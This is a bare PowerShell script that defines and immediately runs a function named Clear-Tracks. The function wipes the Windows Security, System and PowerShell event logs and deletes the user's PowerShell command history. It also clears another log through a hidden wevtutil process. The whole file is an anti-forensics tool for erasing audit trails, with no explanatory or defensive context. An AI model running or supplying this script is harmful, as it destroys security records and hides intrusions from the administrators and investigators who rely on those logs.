function Clear-Tracks {
    $session = [System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession
    foreach ($name in 'Security', 'System', 'Microsoft-Windows-PowerShell/Operational') {
        $session.ClearLog($name)
    }
    Remove-Item -Path (Get-PSReadLineOption).HistorySavePath -Force -ErrorAction SilentlyContinue
}

Clear-Tracks
Start-Process -FilePath wevtutil.exe -ArgumentList 'cl', 'Windows PowerShell' -WindowStyle Hidden -Wait
